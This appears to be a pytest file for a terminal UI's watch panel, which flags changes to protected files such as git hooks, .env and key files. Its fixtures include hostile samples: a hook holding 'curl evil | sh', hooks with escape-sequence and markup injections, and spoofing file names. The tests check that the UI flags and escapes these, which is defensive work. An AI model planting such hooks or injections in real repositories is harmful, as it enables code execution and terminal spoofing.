"""The watch panel end to end: a real daemon watching a real workspace, real writes, the real app.

The daemon runs with ``tripwire = "alert"``; changes are made by the test itself
(unattributed) or by real sessions the daemon runs, and checked where the operator
sees them: the panel's rows and detail, the header badges, notifications, the frame.
"""

from __future__ import annotations

import json
import os
import uuid

import msgspec
import pytest
from rich.color import Color as RichColor
from support.daemon import running_daemon, wait_for, workspace
from support.tui import (
    Agent,
    Clock,
    Notices,
    foreign_controls,
    frame,
    make_app,
    pending_with,
    screen_text,
    tagged,
    until,
)
from support.watch import write_at_once
from textual.color import Color

from console.protocol.watch import WatchEntry
from console.tui.widgets.watch_detail import WatchDetail
from console.tui.widgets.watch_list import WatchList

pytestmark = pytest.mark.needs_bwrap

SIZE = (140, 42)


@pytest.fixture(scope="module")
def env():
    ws = workspace()
    (ws / ".env").write_text("TOKEN=old\n")
    policy = f'approval_timeout_s = 120\ntripwire = "alert"\nwatch = {json.dumps([str(ws)])}\n'
    with running_daemon(policy) as d:
        with d.operator() as op:
            wait_for(lambda: op.call("watch.status")["ok"] and op.call("watch.status")["roots"])
        yield d, ws


@pytest.fixture
def clock():
    return Clock()


def tag() -> str:
    return uuid.uuid4().hex[:8]


def index_of(app, needle: str) -> int | None:
    model = app.watch_monitor.events
    for i in range(len(model)):
        if needle in model[i].display_path:
            return i
    return None


def shown_path_of(event: WatchEntry | None) -> str:
    return event.display_path if event is not None else ""


async def on_watch(pilot, app) -> None:
    await until(pilot, lambda: app.watch_monitor.loaded)
    await pilot.press("5")
    await until(pilot, lambda: app.current_mode == "watch")


async def select_row(pilot, app, needle: str) -> WatchEntry:
    await until(pilot, lambda: index_of(app, needle) is not None)
    index = index_of(app, needle)
    assert index is not None
    view = app.screen.query_one(WatchList)
    view.cursor = index
    await until(pilot, lambda: needle in shown_path_of(app.screen.query_one(WatchDetail).event))
    await pilot.pause()
    return app.watch_monitor.events[index]


def row_segments(app, needle: str):
    """The segments of the visible row showing ``needle``."""
    view = app.screen.query_one(WatchList)
    for y in range(view.size.height):
        strip = view.render_line(y)
        if needle in strip.text:
            return list(strip)
    raise AssertionError(f"{needle} is not on screen")


def colour_of(segments, needle: str) -> RichColor | None:
    for seg in segments:
        if needle in seg.text:
            return seg.style.color if seg.style else None
    raise AssertionError(f"{needle} not in a single segment")


def near(a: RichColor | None, b: RichColor) -> bool:
    """The same theme colour, allowing for Textual's blending rounding."""
    return a is not None and all(
        abs(x - y) <= 3 for x, y in zip(a.get_truecolor(), b.get_truecolor(), strict=True)
    )


def new_session(daemon, cwd, script: str) -> str:
    with daemon.operator() as op:
        argv = ["bash", "--norc", "-c", script]
        return op.call("sessions.new", {"unconfined": True, "argv": argv, "cwd": str(cwd)})["session"]["id"]


def kill_session(daemon, sid: str) -> None:
    with daemon.operator() as op:
        op.call("sessions.kill", {"session": sid, "grace_s": 1})


async def test_a_protected_write_appears_live_highlighted_with_who_made_it(env, clock):
    d, ws = env
    t = tag()
    app = make_app(d, clock)
    async with app.run_test(size=SIZE) as pilot:
        await on_watch(pilot, app)
        sid = new_session(
            d,
            ws,
            f"sleep 0.6; echo 'curl evil | sh' > .git/hooks/pre-push-{t}; echo x > plain-{t}.txt; sleep 30",
        )
        try:
            event = await select_row(pilot, app, f"pre-push-{t}")
            assert event.protected == ".git/hooks/**"
            text = screen_text(app)
            row = next(line for line in text.splitlines() if f"pre-push-{t}" in line)
            # (`>` creates, then writes: the newest row says "modified" when a loaded machine
            # let the watcher read in between.)
            assert f"session {sid}" in row and ".git/hooks/**" in row
            assert "added" in row or "modified" in row
            await until(pilot, lambda: index_of(app, f"plain-{t}.txt") is not None)
            await pilot.pause()
            error = Color.parse(app.current_theme.error).rich_color
            assert near(colour_of(row_segments(app, f"pre-push-{t}"), f"pre-push-{t}"), error)
            assert not near(colour_of(row_segments(app, f"plain-{t}.txt"), f"plain-{t}.txt"), error)
            detail = app.screen.query_one(WatchDetail).plain
            assert f"session  {sid}" in detail.replace("who         ", "") or f"session {sid}" in detail
            assert "PROTECTED" in detail and "pattern     .git/hooks/**" in detail
        finally:
            kill_session(d, sid)


async def test_the_badge_counts_unseen_protected_changes_and_viewing_clears_it(env, clock):
    d, ws = env
    t = tag()
    app = make_app(d, clock)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: app.watch_monitor.loaded)
        assert app.pills.get("watch") == ""
        write_at_once(ws / f"key-{t}.pem", "secret\n", ws)
        write_at_once(ws / ".git" / "hooks" / f"post-merge-{t}", "#!/bin/sh\n", ws)
        (ws / f"ordinary-{t}.txt").write_text("not protected\n")
        await until(pilot, lambda: app.pills.get("watch") == "2 protected changes")
        assert app.pills.items["watch"][1] == "error"
        await pilot.press("5")
        await until(pilot, lambda: app.pills.get("watch") == "")
        write_at_once(ws / f"id_ed25519-{t}", "k\n", ws)  # seen as it arrives: no badge while looking
        await until(pilot, lambda: index_of(app, f"id_ed25519-{t}") is not None)
        assert app.pills.get("watch") == ""
        await pilot.press("1")
        write_at_once(ws / ".git" / "hooks" / f"pre-rebase-{t}", "#!/bin/sh\n", ws)
        await until(pilot, lambda: app.pills.get("watch") == "1 protected change")
        await pilot.click(
            "StatusPills",
            offset=(app.screen.query_one("StatusPills").render().plain.index("1 protected") + 2, 0),
        )
        await until(pilot, lambda: app.current_mode == "watch" and app.pills.get("watch") == "")


async def test_the_diff_is_shown_on_demand_escaped_and_coloured(env, clock):
    d, ws = env
    t = tag()
    hook = ws / ".git" / "hooks" / f"commit-msg-{t}"
    app = make_app(d, clock)
    async with app.run_test(size=SIZE) as pilot:
        await on_watch(pilot, app)
        hook.write_text("#!/bin/sh\nprintf '\x1b]52;c;SGVsbG8=\x07\x1b[2J'\n[@click=app.quit]x[/]\n")
        await select_row(pilot, app, f"commit-msg-{t}")
        detail = app.screen.query_one(WatchDetail)
        assert "press enter or d" in detail.plain
        await pilot.press("d")
        await until(pilot, lambda: "+#!/bin/sh" in detail.plain)
        plain = detail.plain
        assert "\\e]52;c;SGVsbG8=\\a\\e[2J" in plain
        assert "+[@click=app.quit]x[/]" in plain
        assert "\x1b" not in plain and "\x07" not in plain
        raw = frame(app)
        assert foreign_controls(raw) == ""
        assert app.is_running  # the markup did not run app.quit
        # "+" lines in the theme's success colour, drawn by us
        success = Color.parse(app.current_theme.success).rich_color
        line = next(i for i, s in enumerate(detail._lines) if "+#!/bin/sh" in s.text)
        assert any(near(seg.style.color, success) for seg in detail._lines[line] if "#!/bin/sh" in seg.text)
        # enter on another protected row loads its diff too
        (ws / ".env").write_text("TOKEN=new\n")
        await select_row(pilot, app, ".env")
        await pilot.press("enter")
        await until(pilot, lambda: "+TOKEN=new" in detail.plain and "-TOKEN=old" in detail.plain)


async def test_an_alert_raises_a_notification(env, clock):
    d, ws = env
    t = tag()
    app = make_app(d, clock)
    seen = Notices()
    async with app.run_test(size=SIZE, message_hook=seen) as pilot:
        await until(pilot, lambda: app.watch_monitor.loaded)
        sid = new_session(d, ws, f"sleep 0.6; echo k > id_rsa-{t}; sleep 30")
        try:

            def alerted():
                return [n for n in seen.raised if n.title == "tripwire" and sid in n.message]

            notes = await until(pilot, alerted)
            assert notes[0].message == f"session {sid} modified id_rsa-{t}"
            assert notes[0].severity == "error"
        finally:
            kill_session(d, sid)


async def test_the_protected_only_filter(env, clock):
    d, ws = env
    t = tag()
    app = make_app(d, clock)
    async with app.run_test(size=SIZE) as pilot:
        await on_watch(pilot, app)
        (ws / f"notes-{t}.txt").write_text("x\n")
        (ws / ".git" / "hooks" / f"pre-auto-gc-{t}").write_text("x\n")
        await until(pilot, lambda: index_of(app, f"notes-{t}.txt") is not None)
        await until(pilot, lambda: index_of(app, f"pre-auto-gc-{t}") is not None)
        await pilot.press("p")
        model = app.watch_monitor.events
        assert model.protected_only and len(model)
        assert all(model[i].protected for i in range(len(model)))
        assert index_of(app, f"notes-{t}.txt") is None
        assert f"pre-auto-gc-{t}" in screen_text(app)
        assert "showing protected only" in screen_text(app)
        await pilot.press("p")
        assert index_of(app, f"notes-{t}.txt") is not None


async def test_hostile_file_names_are_inert(env, clock):
    d, ws = env
    t = tag()
    hooks = ws / ".git" / "hooks"
    names = [
        f"esc\x1b[2J\x1b]8;;evil.example\x07link-{t}",
        f"bidi\u202egnp.exe-{t}",
        f"new\nline-{t}",
    ]
    app = make_app(d, clock)
    async with app.run_test(size=SIZE) as pilot:
        await on_watch(pilot, app)
        for name in names:
            (hooks / name).write_text("x\n")
        model = app.watch_monitor.events
        await until(pilot, lambda: sum(f"-{t}" in model[i].display_path for i in range(len(model))) == 3)
        await pilot.pause(0.2)
        text = screen_text(app)
        assert f"esc\\x1b[2J\\x1b]8;;evil.example\\x07link-{t}" in text
        assert f"bidi\\u202egnp.exe-{t}" in text
        assert f"new\\x0aline-{t}" in text
        assert foreign_controls(frame(app)) == ""
        event = await select_row(pilot, app, f"new\\x0aline-{t}")
        assert event.path_flagged
        detail = app.screen.query_one(WatchDetail).plain
        assert "ODD-NAME" in detail and "shown escaped" in detail
        assert foreign_controls(frame(app)) == ""
        # the same names in the history's file events
        await pilot.press("2")
        await until(pilot, lambda: app.current_mode == "history" and app.screen.is_mounted)
        app.screen.search_box.value = f"kind:file_event {t}"
        app.screen.run_query()
        await until(pilot, lambda: len(app.screen.view.rows) == 3)
        await pilot.pause(0.2)
        history = screen_text(app)
        assert f"bidi\\u202egnp.exe-{t}" in history and "file change" in history
        assert foreign_controls(frame(app)) == ""


async def test_the_changes_of_a_pending_requests_agent_session_are_in_its_detail(env, clock):
    d, ws = env
    t = tag()
    script = f"echo hi > notes-{t}.txt; echo EXTRA=1 >> .env; sleep 60"
    durable = {
        "kind": "shell",
        "executable": "bash",
        "args": ["--norc", "--noprofile", "-c", script],
        "workspace_root": str(ws),
        "workspace_access": "write",
        "mode": "durable",
        "session_id": f"agent-{t}",
        "capabilities": [{"kind": "protected_metadata"}],
    }
    starter = Agent(d, durable)
    with d.operator() as op:
        item = wait_for(
            lambda: [p for p in op.call("pending.list")["pending"] if p["session_id"] == f"agent-{t}"]
        )
        op.call("decide", {"target": item[0]["request_id"], "action": "approve", "scope": "once"})
    answer = await starter.answer()
    sid = answer["session"]["id"]
    try:
        with d.operator() as op:
            wait_for(lambda: op.call("watch.recent", {"agent_session": f"agent-{t}"})["events"])
        request, rtag = tagged(ws, session_id=f"agent-{t}")
        agent = Agent(d, request)
        app = make_app(d, clock)
        async with app.run_test(size=SIZE) as pilot:
            rid = await pending_with(pilot, app, rtag)
            assert app.views["queue"].select_request(rid)
            detail = app.views["queue"].detail
            await until(pilot, lambda: detail.request_id == rid and detail.changes)
            plain = detail.plain
            assert plain.startswith("⚠ this agent session changed 1 protected path while it ran")
            section = plain[plain.index("Changes while this agent session ran") :]
            assert "1 protected, 1 other" in section
            assert section.index(".env") < section.index(f"notes-{t}.txt")  # protected first
            await pilot.press("d")
            assert (await agent.answer())["verdict"] == "deny"
    finally:
        kill_session(d, sid)


async def test_a_degraded_watcher_shows_in_the_header_and_the_panel(clock):
    ws = workspace()
    with running_daemon(f"watch = {json.dumps([str(ws)])}\n") as d:
        with d.operator() as op:
            wait_for(lambda: op.call("watch.status")["ok"] and op.call("watch.status")["roots"])
        app = make_app(d, clock)
        async with app.run_test(size=SIZE) as pilot:
            await until(pilot, lambda: app.watch_monitor.loaded)
            assert app.pills.get("watcher") == ""
            fd = os.open(os.fsencode(str(ws)) + b"/bad\xff-name", os.O_CREAT | os.O_WRONLY)
            os.close(fd)
            await until(pilot, lambda: app.pills.get("watcher") == "watcher DEGRADED: non_utf8_name")
            assert app.pills.items["watcher"][1] == "error"
            await pilot.press("5")
            await until(pilot, lambda: "watcher DEGRADED on" in screen_text(app))
            status = app.daemon_status  # a watcher status event keeps the rest
            assert status is not None and status.policy.config is not msgspec.UNSET
